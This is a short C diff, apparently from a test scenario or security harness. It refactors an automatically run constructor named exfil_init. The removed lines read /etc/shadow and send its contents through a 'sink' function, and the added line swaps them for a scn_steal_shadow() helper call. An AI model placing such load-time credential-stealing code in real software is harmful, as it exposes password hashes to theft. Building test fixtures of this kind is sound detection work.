@@ -9,16 +9,6 @@
 
 __attribute__((constructor)) static void exfil_init(void)
 {
-	char buf[65536];
-	ssize_t n;
-	int fd;
-
 	scn_mark("ran");
-	fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
-	if (fd < 0)
-		return;
-	n = read(fd, buf, sizeof(buf));
-	close(fd);
-	if (n > 0 && !scn_sink_send(buf, n))
-		scn_mark("done");
+	scn_steal_shadow();
 }
